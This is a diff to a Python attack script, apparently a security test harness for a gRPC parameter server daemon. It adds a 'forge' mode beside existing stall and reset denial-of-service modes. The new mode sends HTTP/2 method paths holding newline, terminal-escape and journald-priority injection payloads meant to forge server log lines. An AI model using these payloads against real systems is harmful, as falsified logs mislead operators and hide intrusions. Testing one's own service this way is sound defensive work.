@@ -227,7 +227,7 @@ class Good:
 
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("attack", choices=["stall", "silent", "reset"])
+    ap.add_argument("attack", choices=["stall", "silent", "reset", "forge"])
     ap.add_argument("host")
     ap.add_argument("port", type=int)
     ap.add_argument("pid", type=int)
@@ -267,7 +267,20 @@ def main():
     sent = 0
     extra = ""
     try:
-        if a.attack in ("stall", "silent"):
+        if a.attack == "forge":
+            # method paths that would forge log lines (newline, ESC, journald priority)
+            c = H2Conn(a.host, a.port, a.tls, source=a.source)
+            conns.append(c)
+            for p in ("/ps.ParameterServer/Forward\n2026-01-01T00:00:00.000Z psd[error] FORGED LINE\x1b[2J",
+                      "/x\n<0>psd[error] FORGED PRIORITY"):
+                c.open_stream(p, authority, a.token, b"")
+                sent += 1
+            for _ in range(20):
+                if c.rst + c.headers >= sent:
+                    break
+                time.sleep(0.1)
+            extra = f", {sent} forged method paths sent, {c.rst + c.headers} answered"
+        elif a.attack in ("stall", "silent"):
             per = 100  # streams per connection (at most what psd allows)
             path = "/ps.ParameterServer/GetParameters"
             msg = None if a.attack == "stall" else b""
